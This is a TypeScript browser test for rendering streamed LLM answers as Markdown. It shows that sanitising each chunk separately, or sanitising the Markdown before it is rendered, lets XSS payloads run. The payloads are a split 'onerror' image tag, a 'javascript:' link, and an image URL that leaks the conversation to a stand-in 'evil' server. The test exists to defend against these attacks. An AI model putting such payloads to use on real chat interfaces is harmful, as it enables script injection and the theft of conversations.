// Wrong: each chunk of a model's answer is sanitized and appended to innerHTML; or its Markdown is sanitized instead of the rendered HTML
// Harm: an attack that is cut in two is harmless in each half and runs when they meet; a javascript: link is no HTML before it is rendered; an image sends the conversation away
// Instead: llm/browser
// Probe: cannot see: a client
import { expect, test } from "vitest";
import { load, openPage } from "../support/browser.ts";
import { eventually, serve } from "../support/server.ts";

declare const pattern: typeof import("../../src/llm/render-markdown.ts") & {
  toHtml(markdown: string): string;
  sanitize(html: string): string;
};

test("an attack in two chunks runs, and not when the whole is sanitised", async () => {
  const evil = await serve({ "/pixel": (_, response) => void response.end() });
  const page = await openPage((await serve({})).origin);
  await load(page, "llm/render-markdown.ts", "test/support/markdown.ts", "test/support/sanitize.ts");
  const chunks = ["Hello <img src=x one", "rror=window.hacked=1> there"];

  const run = (how: "wrong" | "right"): Promise<boolean> =>
    page.evaluate(
      async ([how, chunks]) => {
        Reflect.deleteProperty(window, "hacked");
        const answer = document.body.appendChild(document.createElement("div"));
        let html = "";
        let text = "";
        for (const chunk of chunks) {
          // Tags and event handlers are removed from every chunk.
          html += chunk.replace(/<[^>]*>/g, "").replace(/\son\w+\s*=/gi, " ");
          text += chunk;
          if (how === "wrong") answer.innerHTML = html;
          else pattern.renderMarkdown(answer, text, pattern.toHtml);
        }
        const image = answer.querySelector("img");
        if (image !== null) await new Promise((resolve) => image.addEventListener("error", resolve));
        return "hacked" in window;
      },
      [how, chunks] as const,
    );
  expect(await run("wrong")).toBe(true);
  expect(await run("right")).toBe(false);

  // DOMPurify, on the Markdown: what it lets through becomes a link that runs and an image that tells.
  const markdown = `[more](javascript:window.hacked=1) ![chart](${evil.origin}/pixel?q=the+conversation)`;
  await page.evaluate((markdown) => {
    const answer = document.body.appendChild(document.createElement("div"));
    pattern.renderMarkdown(answer, markdown, pattern.toHtml);
    for (const link of answer.querySelectorAll("a")) link.click();
  }, markdown);
  expect(await page.evaluate(() => "hacked" in window)).toBe(false);
  expect(evil.hits.get("/pixel")).toBeUndefined();
  await page.evaluate((markdown) => {
    const answer = document.body.appendChild(document.createElement("div"));
    answer.innerHTML = pattern.toHtml(pattern.sanitize(markdown));
    answer.querySelector("a")!.click();
  }, markdown);
  await eventually(() => page.evaluate(() => "hacked" in window));
  await eventually(() => evil.hits.get("/pixel") === 1);
});
